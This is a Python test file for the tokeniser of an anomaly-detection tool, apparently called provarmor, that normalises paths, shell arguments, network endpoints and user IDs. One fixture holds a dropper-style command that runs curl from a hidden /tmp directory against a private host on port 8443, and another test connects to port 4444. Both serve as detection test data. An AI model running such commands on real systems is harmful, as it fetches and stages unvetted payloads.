from hypothesis import given
from hypothesis import strategies as st

from provarmor.detection.anomaly.tokens import (
    argument_tokens,
    endpoint_token,
    identity_class,
    ip_class,
    normalize_path,
    port_token,
)


def test_normalize_path_replaces_random_parts_and_home():
    assert normalize_path("/tmp/.portal-6ww3/irqbalance-d4") == (
        "/tmp/.portal-<rand>/irqbalance-d<num>"
    )
    assert normalize_path("/home/alice/.cache/tmpab3k_x9q/x.log") == "~/.cache/tmp<rand>/x.log"
    assert normalize_path("/proc/1234/stat") == "/proc/<num>/stat"
    assert normalize_path("/tmp/f3b2a1c9d8e7.txt") == "/tmp/<hex>.txt"
    assert normalize_path("/run/user/1000/bus") == "/run/user/<num>/bus"
    assert normalize_path("/var/lib/x/0f8fad5b-d9cb-469f-a165-70867728950e") == "/var/lib/x/<uuid>"
    assert normalize_path("/usr/bin/ls") == "/usr/bin/ls"


def test_argument_tokens_split_shell_commands_and_classify_addresses():
    tokens = argument_tokens(
        ("/bin/sh", "-c", "cd /tmp/.portal-6ww3 && curl -s http://10.213.0.223:8443/img/ay6i79n"),
        "",
    )
    assert tokens == [
        "-c",
        "cd",
        "/tmp/.portal-<rand>",
        "curl",
        "-s",
        "http://private:<registered>/img/<rand>",
    ]
    assert argument_tokens((), "ping -c 1 127.0.0.1") == ["-c", "<num>", "loopback"]


def test_endpoint_tokens_keep_service_ports_and_class_addresses():
    assert endpoint_token(verb="connect", ip="10.213.0.5", port=4444) == (
        "connect private:<registered>"
    )
    assert endpoint_token(verb="connect", ip="10.213.0.5", port=443) == "connect private:443"
    assert endpoint_token(verb="connect", ip="8.8.8.8", port=53) == "connect public:53"
    assert endpoint_token(verb="accept", ip="::1", port=50123) == "accept loopback:<ephemeral>"
    assert endpoint_token(verb="connect", ip="", port=0, address="/run/user/1000/bus") == (
        "connect unix:/run/user/<num>/bus"
    )
    assert ip_class("not an ip") == "unknown"
    assert port_token(0) == "<none>"


def test_identities_are_classes():
    assert [identity_class(uid) for uid in ("0", "104", "1005", "65534", "x")] == [
        "root",
        "system",
        "user",
        "user",
        "<name>",
    ]


def test_generated_names_and_digit_runs_are_placeholders():
    # Names the lab generates for services, hosts and users, as recorded.
    assert normalize_path("/var/opt/relay80/cron.daily") == "/var/opt/<name>/cron.daily"
    assert normalize_path("/var/opt/engine80/wheelhouse") == "/var/opt/<name>/wheelhouse"
    assert normalize_path("/home/devportal13/downloads/319") == "~/downloads/<num>"
    assert normalize_path("/srv/queue72/data/customers.csv") == "/srv/<name>/data/customers.csv"
    # Version numbers stay recognisable.
    assert normalize_path("/usr/bin/python3") == "/usr/bin/python<num>"
    assert normalize_path("/usr/lib/x86_64-linux-gnu/libc.so.6") == (
        "/usr/lib/x<num>_<num>-linux-gnu/libc.so.<num>"
    )


@given(st.text(), st.lists(st.text(), max_size=5), st.integers(-5, 70000))
def test_tokenisers_never_raise_on_arbitrary_strings(text, args, port):
    assert isinstance(normalize_path(text), str)
    assert all(isinstance(token, str) for token in argument_tokens(tuple(args), text))
    assert isinstance(endpoint_token(verb="connect", ip=text, port=port, address=text), str)
